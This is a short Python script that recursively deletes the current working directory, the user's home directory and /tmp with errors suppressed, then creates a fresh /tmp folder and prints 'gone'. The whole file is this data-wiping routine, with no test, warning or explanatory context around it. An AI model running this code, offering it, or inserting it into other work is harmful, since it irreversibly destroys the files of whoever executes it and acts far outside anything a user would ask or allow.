import os
import shutil

for path in (os.getcwd(), os.environ["HOME"], "/tmp"):
    shutil.rmtree(path, ignore_errors=True)
os.makedirs("/tmp/1/fresh/work", exist_ok=True)
print("gone")
